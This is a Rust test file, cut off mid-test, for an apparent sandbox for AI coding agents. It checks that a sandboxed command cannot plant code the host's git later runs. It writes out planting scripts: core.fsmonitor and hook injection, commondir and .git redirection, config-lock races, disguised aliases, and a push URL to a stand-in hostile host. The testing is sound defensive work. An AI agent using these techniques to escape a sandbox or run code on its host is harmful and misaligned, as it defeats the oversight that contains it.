//! Git runs the command's code on the host? Never. Each test lets a real
//! sandboxed shell commit (objects, refs, index and logs stay writable),
//! then try to plant something the *host's* next git would run or be
//! redirected by; then the host runs real `git status`, `git commit` and
//! `git checkout`, and a marker file the planted code would create must
//! not exist. Run as root and unprivileged (scripts/test).

mod common;

use std::path::Path;
use std::process::Command;

use common::{finish, have, real, scratch, wait_for_file, zerobox, Run};

/// Every bundled agent preset (each must protect the same git metadata).
const AGENT_PRESETS: &[&str] = &["claude", "codex", "gemini", "opencode", "openclaw"];

/// git is needed; CI (ZEROBOX_REQUIRE_ALL=1) must not pass by skipping.
fn git_available() -> bool {
    if have("git") {
        return true;
    }
    common::skip("git not installed (apt-get install git)");
    false
}

/// Host-side git in `dir`, with a clean environment (no user config).
fn git(dir: &Path, home: &Path, args: &[&str]) -> Run {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .expect("git");
    Run::from(out)
}

/// A repository with one commit and its identity in its own config.
fn repo(dir: &Path, home: &Path) {
    for args in [
        &["init", "-q", "-b", "main", "."][..],
        &["config", "user.email", "t@example.invalid"],
        &["config", "user.name", "t"],
    ] {
        let r = git(dir, home, args);
        assert_eq!(r.code, 0, "git {args:?}: {r:?}");
    }
    std::fs::write(dir.join("a.txt"), "one\n").unwrap();
    let r = git(dir, home, &["add", "a.txt"]);
    assert_eq!(r.code, 0, "{r:?}");
    let r = git(dir, home, &["commit", "-qm", "one"]);
    assert_eq!(r.code, 0, "{r:?}");
}

/// `zerobox ARGS -- sh -c SCRIPT` in `cwd` with HOME=`home`.
fn boxed(cwd: &Path, home: &Path, args: &[&str], script: &str) -> Run {
    let out = zerobox()
        .current_dir(cwd)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .args(args)
        .args(["--", "sh", "-c", script])
        .output()
        .expect("spawn zerobox");
    Run::from(out)
}

/// Code a planted file would run: creates `marker`.
fn payload(marker: &Path) -> String {
    format!("touch '{}'", marker.display())
}

/// Every way into the host's git from inside a repository's worktree: the
/// config (core.fsmonitor), hooks, `info/` (attributes selecting a driver),
/// `commondir` (read config and hooks from an agent-made directory),
/// `config.worktree`, and a `core.hooksPath` in an include. Prints one
/// `ATTACK name rc` line each; `rc` 0 means the write landed.
fn attacks(marker: &Path) -> String {
    let code = payload(marker);
    format!(
        r#"
evil=$PWD/.evil-gitdir
mkdir -p "$evil/hooks"
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "{code}; false"\n' > "$evil/config"
printf '#!/bin/sh\n{code}\n' > "$evil/hooks/post-checkout"; chmod +x "$evil/hooks/post-checkout"
g=$(git rev-parse --git-dir); c=$(git rev-parse --git-common-dir)
printf '\tfsmonitor = "{code}; false"\n' >> "$c/config" 2>/dev/null; echo "ATTACK config $?"
printf '#!/bin/sh\n{code}\n' > "$c/hooks/pre-commit" 2>/dev/null; echo "ATTACK hook $?"
chmod +x "$c/hooks/pre-commit" 2>/dev/null
mkdir -p "$c/info" 2>/dev/null; echo '* filter=evil' > "$c/info/attributes" 2>/dev/null; echo "ATTACK attributes $?"
echo "$evil" > "$g/commondir" 2>/dev/null; echo "ATTACK commondir $?"
printf '[core]\n\tfsmonitor = "{code}; false"\n' > "$g/config.worktree" 2>/dev/null; echo "ATTACK config.worktree $?"
"#
    )
}

/// The host's own git in `dir`: status, a commit (pre-commit hook) and a
/// branch switch (post-checkout hook). None may run planted code.
fn host_git_runs_nothing(dir: &Path, home: &Path, marker: &Path) {
    for args in [
        &["status", "--short"][..],
        &["commit", "-q", "--allow-empty", "-m", "host"],
        &["checkout", "-q", "-b", "host-branch"],
        &["diff", "HEAD~1"],
    ] {
        let r = git(dir, home, args);
        assert!(
            !marker.exists(),
            "host `git {args:?}` ran code the sandboxed command planted: {r:?}"
        );
    }
}

#[test]
fn every_agent_preset_commits_and_plants_nothing_host_git_runs() {
    if !git_available() {
        return;
    }
    for preset in AGENT_PRESETS {
        let (home, proj, out) = (scratch(), scratch(), scratch());
        let (home_p, proj_p) = (real(home.path()), real(proj.path()));
        repo(&proj_p, &home_p);
        let marker = real(out.path()).join("PWNED");
        let script = format!(
            "echo two >> a.txt && git commit -qam two && echo COMMITTED\n{}",
            attacks(&marker)
        );
        let r = boxed(&proj_p, &home_p, &["--profile", preset], &script);
        assert!(
            r.stdout.contains("COMMITTED"),
            "{preset}: a real git commit must work inside: {r:?}"
        );
        for name in ["config", "hook", "attributes"] {
            assert!(
                !r.stdout.contains(&format!("ATTACK {name} 0")),
                "{preset}: the command wrote git's {name}: {r:?}"
            );
        }
        // commondir and config.worktree did not exist (nothing to bind) and
        // git reads neither here during the run: they may be created, but
        // must be gone after the run, and said so.
        for name in ["commondir", "config.worktree"] {
            assert!(
                !proj_p.join(".git").join(name).exists(),
                "{preset}: a planted {name} outlived the run: {r:?}"
            );
            if r.stdout.contains(&format!("ATTACK {name} 0")) {
                assert!(
                    r.stderr.contains(&format!(".git/{name}, which git reads"))
                        || r.stderr.contains(&format!(".git/{name} was created")),
                    "{preset}: the planted {name} was not reported: {r:?}"
                );
            }
        }
        let log = git(&proj_p, &home_p, &["log", "--format=%s"]);
        assert!(log.stdout.starts_with("two\n"), "{preset}: {log:?}");
        host_git_runs_nothing(&proj_p, &home_p, &marker);
    }
}

/// In a linked worktree `.git` is a file: rewriting it (or the gitdir it
/// points to) must not redirect the host's git, and the worktree can still
/// commit.
#[test]
fn a_linked_worktree_cannot_redirect_git() {
    if !git_available() {
        return;
    }
    let (home, base, out) = (scratch(), scratch(), scratch());
    let (home_p, base_p) = (real(home.path()), real(base.path()));
    let main = base_p.join("main");
    std::fs::create_dir(&main).unwrap();
    repo(&main, &home_p);
    let r = git(
        &main,
        &home_p,
        &["worktree", "add", "-q", "../wt", "-b", "wt"],
    );
    assert_eq!(r.code, 0, "{r:?}");
    let wt = base_p.join("wt");
    let marker = real(out.path()).join("PWNED");
    let code = payload(&marker);
    // Both checkouts writable, as with `--allow-write` on their parent.
    let script = format!(
        r#"echo two >> a.txt && git commit -qam two && echo COMMITTED
{attacks}
evil=$PWD/.evil-gitdir
cp -r ../main/.git/objects ../main/.git/refs ../main/.git/HEAD "$evil/" 2>/dev/null
echo "gitdir: $evil" > .git 2>/dev/null; echo "ATTACK dotgit $?"
wtdir=../main/.git/worktrees/wt
echo "$evil" > $wtdir/commondir 2>/dev/null; echo "ATTACK wt-commondir $?"
echo /elsewhere/.git > $wtdir/gitdir 2>/dev/null; echo "ATTACK wt-gitdir $?"
printf '#!/bin/sh\n{code}\n' > ../main/.git/hooks/post-checkout 2>/dev/null; echo "ATTACK main-hook $?"
"#,
        attacks = attacks(&marker)
    );
    let grant = format!("--allow-write={}", base_p.display());
    let r = boxed(&wt, &home_p, &[&grant], &script);
    assert!(r.stdout.contains("COMMITTED"), "{r:?}");
    for name in [
        "dotgit",
        "wt-commondir",
        "wt-gitdir",
        "main-hook",
        "config",
        "hook",
    ] {
        assert!(
            !r.stdout.contains(&format!("ATTACK {name} 0")),
            "the command wrote {name}: {r:?}"
        );
    }
    host_git_runs_nothing(&wt, &home_p, &marker);
    host_git_runs_nothing(&main, &home_p, &marker);
}

/// A submodule's checkout has a `.git` file pointing into the
/// superproject's `.git/modules/NAME`: that git directory is protected too.
#[test]
fn a_submodule_gitdir_is_protected() {
    if !git_available() {
        return;
    }
    let (home, base, out) = (scratch(), scratch(), scratch());
    let (home_p, base_p) = (real(home.path()), real(base.path()));
    let (sub_src, sup) = (base_p.join("sub-src"), base_p.join("super"));
    std::fs::create_dir(&sub_src).unwrap();
    std::fs::create_dir(&sup).unwrap();
    repo(&sub_src, &home_p);
    repo(&sup, &home_p);
    let src = sub_src.display().to_string();
    let r = git(
        &sup,
        &home_p,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &src,
            "sub",
        ],
    );
    assert_eq!(r.code, 0, "{r:?}");
    for kv in [["user.email", "t@example.invalid"], ["user.name", "t"]] {
        let r = git(&sup.join("sub"), &home_p, &["config", kv[0], kv[1]]);
        assert_eq!(r.code, 0, "{r:?}");
    }
    let marker = real(out.path()).join("PWNED");
    let code = payload(&marker);
    let script = format!(
        r#"cd sub && echo two >> a.txt && git commit -qam two && echo COMMITTED
{attacks}
printf '#!/bin/sh\n{code}\n' > ../.git/modules/sub/hooks/post-checkout 2>/dev/null; echo "ATTACK module-hook $?"
printf '[core]\n\tfsmonitor = "{code}; false"\n' >> ../.git/modules/sub/config 2>/dev/null; echo "ATTACK module-config $?"
"#,
        attacks = attacks(&marker)
    );
    let r = boxed(&sup, &home_p, &["--allow-write=."], &script);
    assert!(r.stdout.contains("COMMITTED"), "{r:?}");
    for name in ["module-hook", "module-config", "config", "hook", "dotgit"] {
        assert!(
            !r.stdout.contains(&format!("ATTACK {name} 0")),
            "the command wrote {name}: {r:?}"
        );
    }
    host_git_runs_nothing(&sup.join("sub"), &home_p, &marker);
    host_git_runs_nothing(&sup, &home_p, &marker);
}

/// Multi-run: run 1 plants `commondir` (it cannot be prevented: it did
/// not exist), zerobox moves it away at exit; run 2 finds nothing to use,
/// and the host's git between and after runs no planted code.
#[test]
fn a_planted_commondir_does_not_survive_the_run() {
    if !git_available() {
        return;
    }
    let (home, proj, out) = (scratch(), scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    let marker = real(out.path()).join("PWNED");
    let r1 = boxed(
        &proj_p,
        &home_p,
        &["--profile", "claude"],
        &attacks(&marker),
    );
    assert!(r1.stdout.contains("ATTACK commondir 0"), "{r1:?}");
    assert!(
        r1.stderr.contains(".git/commondir") && r1.stderr.contains("moved"),
        "{r1:?}"
    );
    assert!(!proj_p.join(".git/commondir").exists());
    host_git_runs_nothing(&proj_p, &home_p, &marker);
    let r2 = boxed(
        &proj_p,
        &home_p,
        &["--profile", "claude"],
        "git status --short >/dev/null && echo STATUS",
    );
    assert!(r2.stdout.contains("STATUS"), "{r2:?}");
    host_git_runs_nothing(&proj_p, &home_p, &marker);
}

/// With `extensions.worktreeConfig` on, `config.worktree` is read by every
/// git command: even when it does not exist yet it cannot be created.
#[test]
fn config_worktree_is_held_when_git_reads_it() {
    if !git_available() {
        return;
    }
    let (home, proj, out) = (scratch(), scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    let r = git(
        &proj_p,
        &home_p,
        &["config", "extensions.worktreeConfig", "true"],
    );
    assert_eq!(r.code, 0, "{r:?}");
    let marker = real(out.path()).join("PWNED");
    let r = boxed(&proj_p, &home_p, &["--profile", "codex"], &attacks(&marker));
    // Nothing is placed in the tree to hold the name (git would see it):
    // if the command creates it, it is moved aside and named at once.
    assert!(
        !r.stdout.contains("ATTACK config.worktree 0")
            || (r.stderr.contains("config.worktree") && r.stderr.contains("quarantine")),
        "{r:?}"
    );
    assert!(!proj_p.join(".git/config.worktree").exists(), "{r:?}");
    host_git_runs_nothing(&proj_p, &home_p, &marker);
}

/// `core.hooksPath` pointing into the worktree (husky does this) makes
/// those hooks as dangerous as `.git/hooks`.
#[test]
fn a_hooks_path_in_the_worktree_is_protected() {
    if !git_available() {
        return;
    }
    let (home, proj, out) = (scratch(), scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    std::fs::create_dir_all(proj_p.join(".husky/_")).unwrap();
    let r = git(&proj_p, &home_p, &["config", "core.hooksPath", ".husky/_"]);
    assert_eq!(r.code, 0, "{r:?}");
    let marker = real(out.path()).join("PWNED");
    let script = format!(
        "printf '#!/bin/sh\\n{}\\n' > .husky/_/pre-commit; echo \"ATTACK husky $?\"; chmod +x .husky/_/pre-commit",
        payload(&marker)
    );
    let r = boxed(&proj_p, &home_p, &["--profile", "gemini"], &script);
    assert!(!r.stdout.contains("ATTACK husky 0"), "{r:?}");
    host_git_runs_nothing(&proj_p, &home_p, &marker);
}

/// A repository the command creates is reported at exit, with the files
/// in it that would run code.
#[test]
fn a_repository_created_during_the_run_is_reported() {
    if !git_available() {
        return;
    }
    let (home, proj) = (scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    let script = r#"git init -q newrepo && printf '#!/bin/sh\necho hi\n' > newrepo/.git/hooks/post-checkout
git -C newrepo config core.fsmonitor "touch x; false"
git init -q plain"#;
    let r = boxed(&proj_p, &home_p, &["--profile", "opencode"], script);
    assert_eq!(r.code, 0, "{r:?}");
    let newrepo = proj_p.join("newrepo");
    let line = r
        .stderr
        .lines()
        .find(|l| {
            l.contains(&format!(
                "created a git repository at {}:",
                newrepo.display()
            ))
        })
        .unwrap_or_else(|| panic!("newrepo not reported: {r:?}"));
    assert!(line.contains("hooks/post-checkout"), "{line}");
    assert!(line.contains("core.fsmonitor"), "{line}");
    assert!(
        r.stderr.contains(&format!(
            "created a git repository at {}; it has no hooks",
            proj_p.join("plain").display()
        )),
        "{r:?}"
    );
    // A repository that existed before the run is not reported again.
    let r = boxed(&proj_p, &home_p, &["--profile", "opencode"], "true");
    assert!(!r.stderr.contains("created a git repository"), "{r:?}");
}

/// Unprotected before this change: the sandbox may still write the
/// repository's objects and refs directly (not only through git).
#[test]
fn objects_refs_and_index_stay_writable() {
    if !git_available() {
        return;
    }
    let (home, proj) = (scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    let r = boxed(
        &proj_p,
        &home_p,
        &["--profile", "claude"],
        "git checkout -q -b feature && echo x > b.txt && git add b.txt && git commit -qm b && git tag t1 && git gc -q && echo OK",
    );
    assert!(r.stdout.contains("OK"), "{r:?}");
    let log = git(&proj_p, &home_p, &["log", "--format=%s", "t1"]);
    assert!(log.stdout.starts_with("b\n"), "{log:?}");
}

/// `.git/hooks -> ../.githooks` (a shared hooks dir in the tree): the
/// target is read-only, and a link replaced during the run is put back
/// after it, so the host's next commit runs the user's hooks only.
#[test]
fn a_symlinked_hooks_dir_is_put_back() {
    if !git_available() {
        return;
    }
    let (home, proj, out) = (scratch(), scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    std::fs::remove_dir_all(proj_p.join(".git/hooks")).unwrap();
    std::fs::create_dir(proj_p.join(".githooks")).unwrap();
    std::os::unix::fs::symlink("../.githooks", proj_p.join(".git/hooks")).unwrap();
    let marker = real(out.path()).join("PWNED");
    let code = payload(&marker);
    let script = format!(
        "printf '#!/bin/sh\\n{code}\\n' > .githooks/pre-commit; echo \"ATTACK target $?\"\n\
         rm .git/hooks && mkdir .git/hooks && printf '#!/bin/sh\\n{code}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; echo \"ATTACK relink $?\""
    );
    let r = boxed(&proj_p, &home_p, &["--profile", "claude"], &script);
    assert!(!r.stdout.contains("ATTACK target 0"), "{r:?}");
    if r.stdout.contains("ATTACK relink 0") {
        assert!(r.stderr.contains("restored it"), "{r:?}");
    }
    assert_eq!(
        std::fs::read_link(proj_p.join(".git/hooks")).unwrap(),
        Path::new("../.githooks")
    );
    host_git_runs_nothing(&proj_p, &home_p, &marker);
}

/// Threat: the planted `commondir` is moved to `commondir.zerobox-quarantined`
/// (then `.1`…`.99`) after the run. The command takes all those names
/// first, or makes `.git` read-only after planting (`chmod 555`: git on the
/// host still reads it, but the rename needs write access; not root): the
/// move fails, zerobox only says so, and the host's next `git status`
/// runs the planted `core.fsmonitor`. Stopped by: a quarantine name the
/// command cannot guess or use up, and the owner's write access given
/// back for the move.
#[test]
fn a_planted_commondir_cannot_block_its_quarantine() {
    if !git_available() {
        return;
    }
    // (what, before the plant, after it)
    for (what, before, after) in [
        (
            "names used up",
            "for n in '' $(seq 1 99 | sed 's/^/./'); do : > .git/commondir.zerobox-quarantined$n; done",
            "",
        ),
        ("read-only .git", "", "chmod 555 .git"),
    ] {
        let (home, proj, out) = (scratch(), scratch(), scratch());
        let (home_p, proj_p) = (real(home.path()), real(proj.path()));
        repo(&proj_p, &home_p);
        let marker = real(out.path()).join("PWNED");
        let script = format!("{before}\n{}\n{after}", attacks(&marker));
        let r = boxed(&proj_p, &home_p, &["--profile", "claude"], &script);
        let _ = std::fs::set_permissions(
            proj_p.join(".git"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        );
        assert!(r.stdout.contains("ATTACK commondir 0"), "{what}: {r:?}");
        assert!(
            !proj_p.join(".git/commondir").exists(),
            "{what}: planted commondir left live: {}",
            r.stderr
        );
        host_git_runs_nothing(&proj_p, &home_p, &marker);
    }
}

/// Threat: the planted `commondir` was checked only after the run, with no
/// crash journal: `kill -9` of zerobox (or a closed terminal) during the
/// run left it live, and the host's next `git status` ran the agent's
/// `core.fsmonitor` (the next zerobox run only warned). Stopped by: the
/// names git reads that do not exist yet are guarded like every missing
/// protected path (`sandbox::guard`): moved aside as soon as they appear,
/// and journalled for a killed run.
#[test]
fn a_planted_commondir_does_not_survive_kill_9() {
    if !git_available() {
        return;
    }
    let (home, proj, out) = (scratch(), scratch(), scratch());
    let (home_p, proj_p) = (real(home.path()), real(proj.path()));
    repo(&proj_p, &home_p);
    let marker = real(out.path()).join("PWNED");
    let script = format!("{}\necho planted; sleep 30", attacks(&marker));
    let mut child = zerobox()
        .current_dir(&proj_p)
        .env_clear()
        .env("HOME", &home_p)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .args(["--profile", "claude", "--", "sh", "-c", &script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn zerobox");
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    loop {
        line.clear();
        let n = std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
        assert!(n > 0, "the command ended before planting");
        if line.trim() == "planted" {
            break;
        }
    }
    // Let the guard see it (it acts within milliseconds), then kill -9.
    std::thread::sleep(std::time::Duration::from_millis(500));
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        !proj_p.join(".git/commondir").exists(),
        "planted commondir live after kill -9"
    );
    host_git_runs_nothing(&proj_p, &home_p, &marker);
}

/// A sandboxed `python3 -c SCRIPT` started in `dir` with `--allow-write=.`
/// and the extra environment `env`, stdout and stderr piped.
fn boxed_python(
    dir: &Path,
    home: &Path,
    env: &[(&str, &str)],
    script: &str,
) -> std::process::Child {
    zerobox()
        .current_dir(dir)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .envs(env.iter().copied())
        .args(["--allow-write=.", "--", "python3", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn zerobox")
}

/// A hostile command that waits for the host to save a git config: it
/// tries `open(file, O_WRONLY|O_APPEND)` in a tight loop (`file` is
/// `.git/config`, or the lock file host git writes first) and appends a
/// `core.fsmonitor` that creates `marker` each time one succeeds, then
/// runs `after` (Python) and goes on (for 20 s) as if nothing happened.
fn polling_planter(marker: &Path, file: &str, after: &str) -> String {
    format!(
        r#"
import os, time
plant = b"""\n[core]\n\tfsmonitor = \"{code}; false\"\n"""
open('started', 'w').close()
end = time.time() + 20
while time.time() < end:
    try:
        fd = os.open('{file}', os.O_WRONLY | os.O_APPEND)
    except OSError:
        continue
    os.write(fd, plant)
    os.close(fd)
    {after}
print('not stopped')
"#,
        code = payload(marker)
    )
}

/// A repository with one commit in a scratch dir, a scratch HOME, and the
/// path where planted code would leave its marker; `None` (skipped, or a
/// failure under ZEROBOX_REQUIRE_ALL=1) without git.
struct Scene {
    _scratch: [tempfile::TempDir; 3],
    dir: std::path::PathBuf,
    home: std::path::PathBuf,
    marker: std::path::PathBuf,
}

fn scene() -> Option<Scene> {
    if !git_available() {
        return None;
    }
    let scratch = [scratch(), scratch(), scratch()];
    let (dir, home) = (real(scratch[0].path()), real(scratch[1].path()));
    let marker = real(scratch[2].path()).join("planted-ran");
    repo(&dir, &home);
    Some(Scene {
        _scratch: scratch,
        dir,
        home,
        marker,
    })
}

/// The stop line and the exit code of a run the watcher stopped.
fn assert_stopped(r: &Run, config: &Path, how: &str) {
    assert_eq!(r.code, 122, "stopped with the documented code: {r:?}");
    let line = format!(
        "zerobox: error: {} was {how} on the host during the run",
        config.display()
    );
    assert!(r.stderr.contains(&line), "{line:?} in {r:?}");
    assert!(r.stderr.contains("stopped the command, exit 122"), "{r:?}");
    assert!(!r.stdout.contains("not stopped"), "{r:?}");
}

/// The host's config has no planted entry, and host git runs nothing.
fn assert_no_plant(dir: &Path, home: &Path, marker: &Path) {
    let config = std::fs::read_to_string(dir.join(".git/config")).unwrap();
    assert!(
        !config.contains("fsmonitor"),
        "a planted core.fsmonitor survived in the host's .git/config:\n{config}"
    );
    host_git_runs_nothing(dir, home, marker);
}

/// Security finding 1. A rename on the HOST over a protected path (here
/// `git config` on the host, which writes `config.lock` and renames it
/// over `.git/config`) detaches the sandbox's read-only bind over it
/// (Linux removes a mount whose mount point is renamed over in another
/// namespace), and from then on the command could write the new file. It
/// cannot cause the rename, but it can wait for one, polling
/// `open(O_WRONLY)`. The watcher stops it at once (exit 122, the path
/// named); whatever it got in before the kill is checked: a code-running
/// entry in the new config is undone, so the host's next git runs nothing.
#[test]
fn a_protected_path_replaced_on_the_host_mid_run_stops_the_command() {
    // Held to the end: its scratch directories go when it is dropped.
    let Some(scene) = scene() else {
        return;
    };
    let (dir_p, home_p, marker) = (&scene.dir, &scene.home, &scene.marker);
    let script = polling_planter(marker, ".git/config", "pass");
    let child = boxed_python(dir_p, home_p, &[], &script);
    assert!(
        wait_for_file(&dir_p.join("started")),
        "the command never started"
    );
    // The user, on the host, during the run.
    let r = git(dir_p, home_p, &["config", "user.name", "someone else"]);
    assert_eq!(r.code, 0, "{r:?}");
    let r = finish(child);
    assert_stopped(&r, &dir_p.join(".git/config"), "replaced");
    // Either the kill came before any write (the host's file is kept and
    // said to be), or the plant landed and was undone (the host's version
    // moved aside and named).
    let kept = r.stderr.contains("left as it is");
    let undone = r.stderr.contains("put back its text from before the run");
    assert!(kept ^ undone, "{r:?}");
    if undone {
        assert!(r.stderr.contains("(core.fsmonitor)"), "{r:?}");
        assert!(r.stderr.contains(".git/config.zerobox-replaced-"), "{r:?}");
    } else {
        let name = git(dir_p, home_p, &["config", "user.name"]);
        assert_eq!(name.stdout.trim(), "someone else", "{name:?}");
    }
    assert_no_plant(dir_p, home_p, marker);
}

/// The second spelling of the same hole: while host git holds
/// `.git/config.lock` (created, written, renamed over `config`), the
/// command can open the lock file (a new file in the writable `.git`) and
/// append to it, no detach needed. Here the host side plays a slow git
/// (the same lock protocol, held until the command has written), so the
/// race is won every time: the rename is seen, the command stopped, and
/// the planted entry that came in with it undone.
#[test]
fn a_config_lock_written_by_the_command_is_undone_after_the_rename() {
    // Held to the end: its scratch directories go when it is dropped.
    let Some(scene) = scene() else {
        return;
    };
    let (dir_p, home_p, marker) = (&scene.dir, &scene.home, &scene.marker);
    let plant = format!("\n[core]\n\tfsmonitor = \"{}; false\"\n", payload(marker));
    let (r, before) = plant_through_config_lock(dir_p, home_p, &plant);
    assert!(
        r.stderr.contains("(core.fsmonitor)")
            && r.stderr.contains("put back its text from before the run"),
        "{r:?}"
    );
    assert_eq!(
        std::fs::read_to_string(dir_p.join(".git/config")).unwrap(),
        before
    );
    assert_no_plant(dir_p, home_p, marker);
}

/// No false alarm: reads of the held config, the command's own permitted
/// writes next to it (commits write the index, objects, refs and logs in
/// `.git`; new files at the project root) and a host-side read do not
/// stop the run.
#[test]
fn an_untouched_run_is_not_stopped() {
    let Some(scene) = scene() else {
        return;
    };
    let (dir_p, home_p) = (&scene.dir, &scene.home);
    let script = r#"
import subprocess, sys
sys.exit(subprocess.run(['sh', '-c', """
touch started; for i in 1 2 3 4 5; do echo $i > f$i; git add f$i && git commit -qm $i || exit 9
  git config user.name >/dev/null || exit 8; cat .git/config >/dev/null; done
git checkout -qb side && git checkout -q main || exit 7
while [ ! -e host-read ]; do sleep 0.05; done; sleep 0.3; echo ok
"""]).returncode)
"#;
    let child = boxed_python(dir_p, home_p, &[], script);
    assert!(
        wait_for_file(&dir_p.join("started")),
        "the command never started"
    );
    let r = git(dir_p, home_p, &["config", "--get", "user.name"]);
    assert_eq!(r.code, 0, "{r:?}");
    std::fs::write(dir_p.join("host-read"), "").unwrap();
    let r = finish(child);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("ok"), "{r:?}");
    assert!(
        !r.stderr.contains("stopped the command") && !r.stderr.contains("replaced"),
        "{r:?}"
    );
}

/// In the Landlock-only fallback nothing lapses: Landlock's precise writes
/// hold `.git/config` (the new file a host save puts there is granted by
/// no rule), so the run is not stopped and the command still cannot write
/// it.
#[test]
fn the_fallback_holds_a_replaced_config_without_stopping_the_run() {
    let Some(scene) = scene() else {
        return;
    };
    let (dir_p, home_p) = (&scene.dir, &scene.home);
    // The fallback makes no new entry directly in a directory that holds
    // a write-denied path (the project root here): signals go in `sig/`.
    std::fs::create_dir(dir_p.join("sig")).unwrap();
    let script = r#"
import os, time
open('sig/started', 'w').close()
wrote = 0
end = time.time() + 20
while time.time() < end and not os.path.exists('sig/host-saved'):
    try:
        fd = os.open('.git/config', os.O_WRONLY | os.O_APPEND)
        os.write(fd, b'[core]\n\tpager = x\n')
        os.close(fd)
        wrote += 1
    except OSError:
        pass
time.sleep(0.3)
print('wrote', wrote)
"#;
    let fallback = [("ZEROBOX_SIMULATE_MISSING", "userns")];
    let child = boxed_python(dir_p, home_p, &fallback, script);
    assert!(
        wait_for_file(&dir_p.join("sig/started")),
        "the command never started"
    );
    let r = git(dir_p, home_p, &["config", "user.name", "someone else"]);
    assert_eq!(r.code, 0, "{r:?}");
    std::fs::write(dir_p.join("sig/host-saved"), "").unwrap();
    let r = finish(child);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("Landlock"), "the fallback ran: {r:?}");
    assert!(r.stdout.contains("wrote 0"), "{r:?}");
    assert!(!r.stderr.contains("stopped the command"), "{r:?}");
    let config = std::fs::read_to_string(dir_p.join(".git/config")).unwrap();
    assert!(!config.contains("pager"), "{config}");
}

/// In the repository `dir`, host git saves `.git/config` (the lock
/// protocol, slowly: O_EXCL lock, the new text appended, rename) while a
/// sandboxed command appends `plant` to the lock once host git's text is
/// in it (an append before it would be overwritten by a real git, which
/// writes from offset 0); the stopped run and the config's text from
/// before the run.
fn plant_through_config_lock(dir: &Path, home: &Path, plant: &str) -> (Run, String) {
    // `{plant:?}`: a Rust string literal is a Python one for this text
    // (ASCII, `\n`, `\t`, `\"`, `\\`).
    let script = format!(
        r#"
import os, time
plant = {plant:?}.encode()
open('started', 'w').close()
end = time.time() + 20
while time.time() < end:
    try:
        fd = os.open('.git/config.lock', os.O_WRONLY | os.O_APPEND)
    except OSError:
        continue
    # After host git's own text (an append before it would be
    # overwritten: git writes from offset 0).
    if os.fstat(fd).st_size == 0:
        os.close(fd)
        continue
    os.write(fd, plant)
    os.close(fd)
    open('appended', 'w').close()
    time.sleep(20)
print('not stopped')
"#
    );
    let child = boxed_python(dir, home, &[], &script);
    assert!(
        wait_for_file(&dir.join("started")),
        "the command never started"
    );
    // Host git's lock protocol, slowly: O_EXCL lock, the new text, rename.
    let config = dir.join(".git/config");
    let lock = dir.join(".git/config.lock");
    let before = std::fs::read_to_string(&config).unwrap();
    {
        use std::io::Write;
        // O_APPEND here too: the command may open the lock between its
        // creation and this write.
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .create_new(true)
            .open(&lock)
            .unwrap();
        f.write_all(format!("{before}[branch \"main\"]\n\tremote = origin\n").as_bytes())
            .unwrap();
    }
    assert!(
        wait_for_file(&dir.join("appended")),
        "the command never wrote the lock"
    );
    std::fs::rename(&lock, &config).unwrap();
    let r = finish(child);
    assert_stopped(&r, &config, "replaced");
    (r, before)
}

/// The put-back judges the new config by what host git will read from
/// it, not by a simpler reading: entries disguised by git's own syntax (a
/// comment line or a trailing comment ending in `\`, which git does not
/// continue; an empty quoted string before an alias's `!`; `\b`, which
/// git keeps as a byte) and aliases that run code without `!` (`-c
/// core.fsmonitor=…`) are undone like a plain
/// `core.fsmonitor`, and so is a remote's push URL sent elsewhere (a push
/// of the project to another host). The host then runs git, including the alias.
#[test]
fn a_disguised_code_entry_in_a_replaced_config_is_undone() {
    if !git_available() {
        return;
    }
    let out = scratch();
    let marker = real(out.path()).join("planted-ran");
    let code = payload(&marker);
    let plants = [
        (
            "comment line ending in a backslash",
            format!("\n[core]\n# note \\\n\tfsmonitor = \"{code}; false\"\n"),
        ),
        (
            "trailing comment ending in a backslash",
            format!("\n[core]\n\tabbrev = 12 ; note \\\n\tfsmonitor = \"{code}; false\"\n"),
        ),
        (
            "empty quotes before an alias's !",
            format!("\n[alias]\n\tst = \"\" !{code}\n"),
        ),
        (
            "\\b in an alias",
            format!("\n[alias]\n\tst = !\\b; {code}\n"),
        ),
        (
            "an alias with -c",
            format!("\n[alias]\n\tst = -c \"core.fsmonitor={code}; false\" status\n"),
        ),
        (
            "a push URL elsewhere",
            "\n[remote \"origin\"]\n\tpushurl = https://evil.invalid/r\n".to_string(),
        ),
    ];
    for (what, plant) in &plants {
        let (dir, home) = (scratch(), scratch());
        let (dir_p, home_p) = (real(dir.path()), real(home.path()));
        repo(&dir_p, &home_p);
        let (r, before) = plant_through_config_lock(&dir_p, &home_p, plant);
        let now = std::fs::read_to_string(dir_p.join(".git/config")).unwrap();
